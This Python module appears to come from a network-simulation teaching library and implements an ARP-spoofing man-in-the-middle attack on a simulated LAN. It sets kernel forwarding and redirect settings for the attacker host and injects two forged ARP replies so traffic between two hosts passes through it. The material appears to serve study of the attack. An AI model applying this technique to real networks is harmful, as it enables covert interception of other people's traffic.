"""ARP spoofing: whoever is told that an address is here, believes it (RFC 826 has no proof of anything).

before   ann ------------ switch ------------ server        eve hears nothing
after    ann --- switch --- eve --- switch --- server       and ann notices nothing
"""

from chatkit.errors import MisuseError
from chatkit.lan.attacks.aim import host_of
from chatkit.lan.attacks.frames import ARP_REPLY, arp
from chatkit.lan.attacks.kernel import tell_kernel
from chatkit.lan.lan import Lan

_FORWARDING = {  # a router would also tell its victims of the shorter way (RFC 792, redirect)
    "ipv4/conf/all/send_redirects": 0,
    "ipv4/conf/eth0/send_redirects": 0,
    "ipv4/ip_forward": 1,
}


def spoof_arp(lan: Lan, liar: str, one: str, other: str) -> tuple[bytes, bytes]:
    """Tell each of the two that the other's address is the liar's, let the liar forward, and give the two frames.

    A lie changes an entry, and makes none: the two must have talked already. It lasts as long as they go on talking;
    after about a minute of silence a host asks again, and hears the truth. Raises MisuseError, LanError.
    """
    eve, ann, server = (host_of(lan, name) for name in (liar, one, other))
    if len({eve.name, ann.name, server.name}) < 3:
        raise MisuseError(f"{liar}, {one}, {other}: a liar stands between two others. Nothing was sent.")
    tell_kernel(eve, _FORWARDING)
    lies = (
        arp(eve, ann, ARP_REPLY, server.address, server.address),  # about itself: so it need not wait to be asked
        arp(eve, server, ARP_REPLY, ann.address, ann.address),
    )
    for lie in lies:
        lan.wire.inject(lie, sent_by=eve.name)
    return lies
